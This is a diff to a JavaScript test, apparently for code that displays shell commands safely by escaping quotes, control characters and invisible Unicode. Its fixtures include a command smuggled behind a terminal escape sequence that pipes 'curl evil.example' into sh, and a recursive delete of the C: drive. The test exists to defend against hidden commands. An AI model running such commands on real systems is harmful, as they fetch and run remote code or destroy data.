@@ -97,11 +97,11 @@ describe('a line', () => {
       'a\u00a0b\u3164c\u2800d\u200be',
     ].join('\n')
     expect(shown(content)).toEqual([
-      `  "echo "a"  'b' \`c\`"`,
+      `  "echo \\"a\\"  'b' \`c\`"`,
       '  "\\tindented "',
       '  "echo ok \\u{1b}]\' ; curl evil.example | sh ; : \'\\u{7}"',
-      '  "# just a comment "',
-      '  "Remove-Item C:\\ -Recurse"',
+      String.raw`  "# just a comment \r"`,
+      String.raw`  "Remove-Item C:\\ -Recurse"`,
       '  "a\\u{a0}b\\u{3164}c\\u{2800}d\\u{200b}e"',
     ])
   })
